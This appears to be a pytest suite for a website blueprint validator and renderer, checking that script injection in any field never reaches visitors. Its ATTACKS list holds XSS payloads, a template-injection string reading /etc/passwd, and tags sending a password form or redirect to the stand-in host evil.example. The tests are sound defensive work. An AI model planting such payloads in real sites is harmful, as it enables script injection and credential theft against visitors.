"""Script in any string of a blueprint reaches no visitor: not as a tag, not as an attribute, not as an address."""

import json
from html.parser import HTMLParser
from pathlib import Path

import pytest

from core.errors import Invalid
from sites.blueprint import validate
from sites.render import render_page

EVERY_BLOCK = json.loads((Path(__file__).parent / "every_block.json").read_text())
ATTACKS = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea></noscript><svg/onload=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus=alert(1) '",
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "{{ 7|add:7 }}{% debug %}{% include '/etc/passwd' %}",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "--><script>alert(1)</script><!--",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "\u2028<script>alert(1)</script>\u202e",
]


class Seen(HTMLParser):
    """Every tag and attribute as a browser's tokenizer sees them."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes = set(), []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def strings(value, place=()):
    """The place of every string below `value`."""
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, item in items:
        if isinstance(item, str):
            yield (*place, key)
        else:
            yield from strings(item, (*place, key))


def planted(document, place, attack):
    copied = json.loads(json.dumps(document))
    target = copied
    for part in place[:-1]:
        target = target[part]
    target[place[-1]] = attack
    return copied


def rendered(document):
    return [render_page(document, page, base_url="http://x.localhost").html.decode() for page in document["pages"]]


def harmless(html, known):
    seen = Seen(html)
    return (
        seen.tags
        <= known.tags
        | {"p", "br", "strong", "em", "b", "i", "u", "s", "code", "a", "ul", "ol", "li", "blockquote", "h3", "h4", "hr"}
        and not any(
            name.startswith("on") or name in {"style", "srcdoc", "formaction"} for _, name, _ in seen.attributes
        )
        and not any(
            "javascript:" in value.lower()
            for _, name, value in seen.attributes
            if name in {"href", "src", "action", "srcset", "poster"}
        )
        and "14{%" not in html
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_any_string_is_refused_or_harmless(attack):
    known = [Seen(html) for html in rendered(validate(EVERY_BLOCK))]
    everything = known[0]
    for other in known[1:]:
        everything.tags |= other.tags
    tried = accepted = 0

    # Many places at once: one document with the attack in every string that takes it.
    document = EVERY_BLOCK
    for place in strings(EVERY_BLOCK):
        tried += 1
        candidate = planted(document, place, attack)
        try:
            small = {**candidate, "pages": [candidate["pages"][place[1]]] if place[0] == "pages" else []}
            validate({**small, "navigation": []} if place[0] == "pages" else small)
        except Invalid as refusal:
            if all(error.code == "unknown_page" for error in refusal.errors):
                document, accepted = candidate, accepted + 1
            continue
        document, accepted = candidate, accepted + 1

    assert accepted > tried / 4
    try:
        clean = validate(document)
    except Invalid as refusal:
        pytest.fail(str(refusal.errors[:3]))
    assert all(harmless(html, everything) for html in rendered(clean))


def test_rich_text_is_sanitised_again_when_it_is_rendered():
    """A row that was changed behind our back is no way in either."""
    stored = validate({"settings": {"title": "x"}, "pages": [{"id": "p", "path": "/", "title": "x", "blocks": [
        {"id": "t", "type": "text", "props": {"html": "<p>safe</p>"}}]}]})  # fmt: skip
    stored["pages"][0]["blocks"][0]["props"]["html"] = (
        "<p>safe<script>alert(1)</script><img src=x onerror=alert(1)></p>"
    )

    (html,) = rendered(stored)

    assert ("<script" in html, "onerror" in html, "<p>safe</p>" in html) == (False, False, True)
